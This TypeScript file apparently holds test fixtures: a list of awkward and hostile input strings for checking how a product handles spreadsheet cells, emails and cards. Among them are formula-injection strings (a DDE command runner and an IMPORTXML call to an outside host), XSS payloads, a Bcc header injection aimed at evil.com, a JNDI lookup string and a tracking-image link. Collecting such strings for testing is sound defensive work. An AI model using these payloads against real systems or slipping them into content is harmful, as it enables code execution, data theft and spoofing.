import { awkwardNames } from './awkwardNames.ts';

/**
 * Texts that broke other products: unusual names, and content that is dangerous in spreadsheet cells, emails and cards.
 */
export const attackTexts: readonly string[] = [
  ...awkwardNames,
  '-2+3',
  '\t=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  "=cmd|'/c calc'!A1",
  '=IMPORTXML("http://x","//a")',
  '</t></is>&<',
  '</script><script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
  'x\r\nBcc: v@evil.com',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '\u202egro.elpmaxe//:sptth',
  '${jndi:ldap://x}',
  '{name, plural, one {x} other {#}}',
  "'{'",
  '{{DATE(2026-11-20T00:00:00Z,SHORT)}}',
  '![x](https://evil.com/x.png)',
  '**bold** _it_ `code`\n# head\n- list',
  '1h'.repeat(500),
  '\u0300'.repeat(300),
  'a'.repeat(2000),
  '😀'.repeat(1000),
  '\r\n\r\n',
];
